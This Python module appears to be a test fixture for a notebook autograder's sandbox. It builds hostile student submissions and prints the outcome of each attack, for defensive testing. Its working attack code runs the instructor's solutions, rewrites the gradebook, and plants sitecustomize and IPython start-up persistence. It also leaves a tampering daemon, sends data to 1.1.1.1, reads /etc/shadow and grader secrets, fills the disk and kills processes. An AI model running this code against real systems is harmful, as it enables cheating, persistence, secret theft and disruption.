"""Hostile submissions: student notebooks whose code attacks the grader instead of answering.

Each :class:`Attack` is the released notebook of a lesson, unanswered, with its first answer
cell replaced by the attack's code. The code knows the course layout (its working folder is
``autograded/<student>/<lesson>``, three levels below the course) and tries something a
cheating student would: run the instructor's solutions, print the hidden tests, rewrite the
gradebook, rewrite the grading code for the students graded after it, plant a
``sitecustomize.py`` or an IPython start-up file, leave a daemon behind, copy a classmate,
reach the network, change the course's nbgrader configuration... Each step prints one line,
``ATTACK <name>: SUCCEEDED ...`` or ``ATTACK <name>: blocked (<error>)``, so the autograded
notebook says how the grader stopped it; the tests judge by effects, not by these lines.
"""

from __future__ import annotations

import copy
import textwrap
from dataclasses import dataclass

import nbformat

from course_utils import grade_id, is_answer, lesson_path, read, student_version

__all__ = ["DAEMON_MARKER", "PLANTED_TMP", "SECRET_VARIABLE", "Attack", "attacks", "notebook"]

DAEMON_MARKER = "bpcourse-hostile-daemon"
PLANTED_TMP = "/tmp/bpcourse-hostile-planted"
SECRET_VARIABLE = "BPCOURSE_GRADER_SECRET"

_PRELUDE = """
import json, os, sys
from pathlib import Path

_here = Path.cwd()
_course, _aid = _here.parents[2], _here.name


def _report(name, action):
    try:
        detail = action()
    except BaseException as exc:  # every kind of refusal is a result here
        print(f"ATTACK {name}: blocked ({type(exc).__name__}: {exc})")
    else:
        print(f"ATTACK {name}: SUCCEEDED {detail or ''}".rstrip())


def _exec_answers(path):
    nb = json.loads(Path(path).read_text(encoding="utf-8"))
    count = 0
    for cell in nb["cells"]:
        meta = cell.get("metadata", {}).get("nbgrader", {})
        if cell["cell_type"] == "code" and meta.get("solution") and not meta.get("grade"):
            source = cell["source"]
            exec("".join(source) if isinstance(source, list) else source, globals())
            count += 1
    return f"{count} answers run from {path}"
"""

_PATCH = (
    "import bpcourse.grading as _G\n"
    "for _n in dir(_G):\n"
    "    if _n.startswith('check'):\n"
    "        setattr(_G, _n, lambda *a, **k: None)\n"
)


@dataclass(frozen=True)
class Attack:
    """One hostile submission: ``student`` id, what it tries, the code of its answer cell."""

    student: str
    what: str
    code: str
    harmless_unsandboxed: bool = False  # only reads: safe to run without the sandbox


def attacks(port: int, control: str) -> list[Attack]:
    """Every attack; ``port`` is a listener on 127.0.0.1, ``control`` the classmate to copy."""
    out = [
        Attack(
            "attack_solutions",
            "opens solutions/ (and source/) and runs the instructor's answers",
            """
            for _folder in ("solutions", "source"):
                _report(f"{_folder}/",
                        lambda: _exec_answers(_course / _folder / _aid / f"{_aid}.ipynb"))
            """,
            harmless_unsandboxed=True,
        ),
        Attack(
            "attack_hidden_tests",
            "prints the hidden tests from the source notebook and the gradebook",
            """
            def _hidden_from_source():
                nb = json.loads((_course / "solutions" / _aid / f"{_aid}.ipynb").read_text())
                return "".join("".join(c["source"]) for c in nb["cells"]
                               if c.get("metadata", {}).get("nbgrader", {}).get("grade"))

            def _hidden_from_gradebook():
                import sqlite3
                db = sqlite3.connect(f"file:{_course / 'gradebook.db'}?mode=ro", uri=True)
                return "".join(row[0] for row in db.execute("SELECT source FROM source_cell"))

            _report("hidden tests in solutions/", lambda: print(_hidden_from_source()))
            _report("hidden tests in gradebook.db", lambda: print(_hidden_from_gradebook()))
            """,
        ),
        Attack(
            "attack_gradebook",
            "writes the gradebook: full marks for itself, zero for everyone else",
            f"""
            def _write():
                import sqlite3
                db = sqlite3.connect(f"file:{{_course / 'gradebook.db'}}?mode=rw", uri=True)
                db.execute("UPDATE grade SET auto_score = 0, manual_score = 0")
                mine = (
                    "SELECT submitted_notebook.id FROM submitted_notebook JOIN "
                    "submitted_assignment ON submitted_notebook.assignment_id = "
                    "submitted_assignment.id WHERE submitted_assignment.student_id = ?"
                )
                db.execute(f"UPDATE grade SET manual_score = 100 WHERE notebook_id IN ({{mine}})",
                           (_here.parent.name,))
                db.commit()
                return "gradebook rewritten"

            _report("gradebook.db", _write)
            _report("lower {control}'s autograded notebook",
                    lambda: (_course / "autograded" / "{control}" / _aid / f"{{_aid}}.ipynb")
                    .write_text("{{}}"))
            """,
        ),
        Attack(
            "attack_package",
            "rewrites bpcourse/grading.py and bpcourse/__init__.py so later students pass",
            f"""
            import bpcourse, bpcourse.grading

            def _append(path):
                with open(path, "a", encoding="utf-8") as fh:
                    fh.write("\\n" + {_PATCH!r})
                return str(path)

            _report("bpcourse/grading.py", lambda: _append(bpcourse.grading.__file__))
            _report("bpcourse/__init__.py", lambda: _append(bpcourse.__file__))
            """,
        ),
        Attack(
            "attack_sitecustomize",
            "drops sitecustomize.py and a .pth file into every site-packages folder",
            f"""
            import site

            def _plant(folder):
                folder = Path(folder)
                folder.mkdir(parents=True, exist_ok=True)
                (folder / "sitecustomize.py").write_text({_PATCH!r})
                (folder / "zz_bpcourse_hostile.pth").write_text("import sitecustomize\\n")
                return str(folder)

            for _folder in [*site.getsitepackages(), site.getusersitepackages()]:
                _report(f"site folder {{_folder}}", lambda: _plant(_folder))
            """,
        ),
        Attack(
            "attack_ipython_startup",
            "plants IPython start-up files and kernel config for the kernels after it",
            f"""
            def _plant(path, text):
                path = Path(path)
                path.parent.mkdir(parents=True, exist_ok=True)
                path.write_text(text)
                return str(path)

            _startup = Path(get_ipython().profile_dir.startup_dir) / "00-hostile.py"
            _report("own profile start-up", lambda: _plant(_startup, {_PATCH!r}))
            for _home in ("/root", *(str(p) for p in Path("/home").glob("*"))):
                _target = Path(_home) / ".ipython/profile_default/startup/00-hostile.py"
                _report(f"start-up in {{_home}}", lambda: _plant(_target, {_PATCH!r}))
            _config = Path(sys.prefix) / "etc" / "ipython" / "ipython_kernel_config.py"
            _report("kernel config in the environment", lambda: _plant(
                _config, "c.InteractiveShellApp.exec_lines = " + repr([{_PATCH!r}])))
            """,
        ),
        Attack(
            "attack_daemon",
            "leaves a double-forked daemon that rewrites results after grading",
            f"""
            import subprocess

            _daemon = '''
            import os, sys, time
            if os.fork():
                os._exit(0)
            os.setsid()
            time.sleep(float(sys.argv[2]))
            for path in sys.argv[3:]:
                try:
                    open(path, "a").write("tampered by a daemon")
                except OSError:
                    pass
            '''
            _targets = [str(p) for p in (_course / "autograded").glob("*/*/*.ipynb")]
            _targets.append(str(_course / "gradebook.db"))
            _report("daemon", lambda: subprocess.Popen(
                [sys.executable, "-c", textwrap.dedent(_daemon), "{DAEMON_MARKER}", "20",
                 *_targets], start_new_session=True).pid)
            """,
        ),
        Attack(
            "attack_classmate",
            f"copies the answers of {control} from submitted/ and autograded/",
            f"""
            for _folder in ("submitted", "autograded"):
                _report(f"{{_folder}}/{control}", lambda: _exec_answers(
                    _course / _folder / "{control}" / _aid / f"{{_aid}}.ipynb"))
            """,
            harmless_unsandboxed=True,
        ),
        Attack(
            "attack_network",
            "sends data to a listener on 127.0.0.1 and to the internet",
            f"""
            import socket

            def _send(host, port):
                with socket.create_connection((host, port), timeout=3) as s:
                    s.sendall(b"answers please")
                return f"connected to {{host}}:{{port}}"

            _report("127.0.0.1:{port}", lambda: _send("127.0.0.1", {port}))
            _report("1.1.1.1:53", lambda: _send("1.1.1.1", 53))
            """,
            harmless_unsandboxed=True,
        ),
        Attack(
            "attack_config",
            "rewrites nbgrader_config.py so later runs skip the tests",
            """
            def _rewrite():
                with open(_course / "nbgrader_config.py", "a") as fh:
                    fh.write("\\nc.Autograde.autograde_preprocessors = []\\n")
                return "config changed"

            _report("nbgrader_config.py", _rewrite)
            """,
        ),
        Attack(
            "attack_home",
            "reads the instructor's home, /etc/shadow and the grader's environment",
            f"""
            def _read(path):
                path = Path(path)
                if path.is_dir():
                    return f"{{path}}: {{sorted(os.listdir(path))[:5]}}"
                return f"{{path}}: {{path.read_text()[:80]!r}}"

            for _path in ("/root", "/root/.bash_history", "/etc/shadow", *Path("/home").glob("*")):
                _report(f"read {{_path}}", lambda: _read(_path))
            _report("grader's environment", lambda: os.environ["{SECRET_VARIABLE}"])
            """,
        ),
        Attack(
            "attack_disk",
            "fills its folder and /tmp, plants files and links there",
            f"""
            def _fill(path):
                chunk = b"x" * 2**20
                with open(path, "wb") as fh:
                    for _ in range(1024):
                        fh.write(chunk)
                return "1 GiB written"

            _report("1 GiB in the working folder", lambda: _fill("big.bin"))
            _report("plant in /tmp", lambda: Path("{PLANTED_TMP}").write_text("planted"))
            _report("plant in the working folder", lambda: Path("planted.txt").write_text("x"))
            _report("link to solutions/", lambda: os.symlink(_course / "solutions", "solutions"))
            """,
        ),
        Attack(
            "attack_kill",
            "signals the grader and every process it can see",
            """
            import signal

            def _signal_all():
                hit = []
                for entry in Path("/proc").iterdir():
                    if entry.name.isdigit() and int(entry.name) != os.getpid():
                        try:
                            os.kill(int(entry.name), signal.SIGTERM)
                            hit.append(entry.name)
                        except OSError:
                            pass
                if not hit:
                    raise PermissionError("no other process could be signalled")
                return f"signalled {hit}"

            _report("every visible process", _signal_all)
            """,
        ),
        Attack(
            "attack_hook_tests",
            "hooks cell execution to print the hidden tests into their own output",
            """
            def _hook(info):
                if "HIDDEN" in (info.raw_cell or "") or "G.check" in (info.raw_cell or ""):
                    print(info.raw_cell)

            get_ipython().events.register("pre_run_cell", _hook)
            print("ATTACK hook: installed (in the kernel; feedback must not show what it prints)")
            """,
        ),
    ]
    return [Attack(a.student, a.what, textwrap.dedent(a.code), a.harmless_unsandboxed) for a in out]


def notebook(aid: str, attack: Attack | None, solved: bool = False) -> bytes:
    """The unanswered release of ``aid`` (``solved``: the instructor's answers); with an
    attack, its first answer cell runs the attack instead."""
    nb = student_version(aid) if solved else copy.deepcopy(read(lesson_path(aid)))
    if attack is not None:
        first = next(c for c in nb.cells if is_answer(c) and grade_id(c))
        first.source = "import textwrap\n" + textwrap.dedent(_PRELUDE) + attack.code
    return nbformat.writes(nb).encode("utf-8")
